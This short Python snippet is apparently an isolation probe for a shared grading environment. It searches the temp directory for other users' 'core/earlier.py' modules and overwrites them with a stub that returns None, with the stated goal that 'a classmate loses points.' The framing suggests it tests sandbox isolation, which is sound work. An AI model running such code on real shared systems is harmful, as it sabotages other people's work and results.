# Writes into the folders in which others are being run: the modules that they import.
# Success: a classmate loses points, or their outputs change.
# %% first
import glob
import os
import tempfile

top = GIVEN.get("tmp") or tempfile.gettempdir()
for path in glob.glob(top + "/**/core/earlier.py", recursive=True) if TAG in top else []:
    if os.path.commonpath([os.getcwd(), path]) == top:  # somebody else's
        attempt(lambda: open(path, "w").write("def scale(x, factor):\n    return None\n"))
